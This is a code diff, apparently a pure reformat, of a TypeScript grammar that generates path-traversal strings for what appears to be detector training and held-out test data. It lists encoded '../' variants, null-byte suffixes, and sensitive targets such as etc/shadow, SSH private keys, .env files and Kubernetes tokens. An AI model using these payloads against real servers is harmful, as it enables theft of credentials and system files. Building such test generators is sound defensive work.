@@ -8,32 +8,97 @@ import type { Branches, Chooser } from "./grammar";
 
 const CLIMBS: Branches<string> = {
   train: [
-    "../", "..\\", "%2e%2e%2f", "%2e%2e/", "..%2f", "%2e%2e%5c", "..%5c", "%252e%252e%252f", "..%252f", "....//",
-    "..././", "..;/", "%2E%2E%2F", "..%c0%af", ".%2e/", "%2e./", "..%255c", "..\\/", "....\\\\",
+    "../",
+    "..\\",
+    "%2e%2e%2f",
+    "%2e%2e/",
+    "..%2f",
+    "%2e%2e%5c",
+    "..%5c",
+    "%252e%252e%252f",
+    "..%252f",
+    "....//",
+    "..././",
+    "..;/",
+    "%2E%2E%2F",
+    "..%c0%af",
+    ".%2e/",
+    "%2e./",
+    "..%255c",
+    "..\\/",
+    "....\\\\",
   ],
   held: ["..%c1%9c", "%uff0e%uff0e/", "..%u2215", "%%32%65%%32%65/", "0x2e0x2e/"],
 };
 const UNIX_TARGETS: Branches<string> = {
   train: [
-    "etc/passwd", "etc/shadow", "etc/hosts", "etc/group", "proc/self/environ", "proc/self/cmdline", "var/log/apache2/access.log",
-    "var/log/nginx/error.log", "root/.ssh/id_rsa", "home/user/.bash_history", "etc/issue", "usr/local/apache/conf/httpd.conf",
-    "var/www/html/config.php", "etc/mysql/my.cnf", ".env", ".git/config", ".htaccess", "WEB-INF/web.xml", "etc/nginx/nginx.conf",
+    "etc/passwd",
+    "etc/shadow",
+    "etc/hosts",
+    "etc/group",
+    "proc/self/environ",
+    "proc/self/cmdline",
+    "var/log/apache2/access.log",
+    "var/log/nginx/error.log",
+    "root/.ssh/id_rsa",
+    "home/user/.bash_history",
+    "etc/issue",
+    "usr/local/apache/conf/httpd.conf",
+    "var/www/html/config.php",
+    "etc/mysql/my.cnf",
+    ".env",
+    ".git/config",
+    ".htaccess",
+    "WEB-INF/web.xml",
+    "etc/nginx/nginx.conf",
   ],
-  held: ["etc/sudoers", "proc/version", "var/run/secrets/kubernetes.io/serviceaccount/token", "opt/tomcat/conf/tomcat-users.xml"],
+  held: [
+    "etc/sudoers",
+    "proc/version",
+    "var/run/secrets/kubernetes.io/serviceaccount/token",
+    "opt/tomcat/conf/tomcat-users.xml",
+  ],
 };
 const WINDOWS_TARGETS: Branches<string> = {
-  train: ["windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "winnt/win.ini", "windows/system.ini", "inetpub/wwwroot/web.config", "windows/repair/sam"],
+  train: [
+    "windows/win.ini",
+    "boot.ini",
+    "windows/system32/drivers/etc/hosts",
+    "winnt/win.ini",
+    "windows/system.ini",
+    "inetpub/wwwroot/web.config",
+    "windows/repair/sam",
+  ],
   held: ["windows/debug/netsetup.log", "windows/panther/unattend.xml"],
 };
-const PREFIXES = ["", "", "", "/", "images/", "file=", "static/", "/var/www/", "download?file=", "uploads/", "c:/", "./", "a/", "lang="];
-const SUFFIXES: Branches<string> = { train: ["", "", "", "%00", "%00.jpg", "\u0000", ".png", "%00.html", "?", "#"], held: ["%2500", ";.txt"] };
+const PREFIXES = [
+  "",
+  "",
+  "",
+  "/",
+  "images/",
+  "file=",
+  "static/",
+  "/var/www/",
+  "download?file=",
+  "uploads/",
+  "c:/",
+  "./",
+  "a/",
+  "lang=",
+];
+const SUFFIXES: Branches<string> = {
+  train: ["", "", "", "%00", "%00.jpg", "\u0000", ".png", "%00.html", "?", "#"],
+  held: ["%2500", ";.txt"],
+};
 
 /** The families of the grammar. */
 const FAMILIES: Readonly<Record<string, (c: Chooser) => string>> = {
   climb: (c) => {
     const climb = c.branch(CLIMBS);
     const target = c.chance(0.7) ? c.branch(UNIX_TARGETS) : c.branch(WINDOWS_TARGETS);
-    const slash = climb.includes("\\") || climb.includes("5c") ? target.replaceAll("/", c.pick(["\\", "/"])) : target;
+    const slash =
+      climb.includes("\\") || climb.includes("5c") ? target.replaceAll("/", c.pick(["\\", "/"])) : target;
     return `${c.pick(PREFIXES)}${climb.repeat(c.int(1, 12))}${slash}${c.branch(SUFFIXES)}`;
   },
   mixedClimb: (c) => {
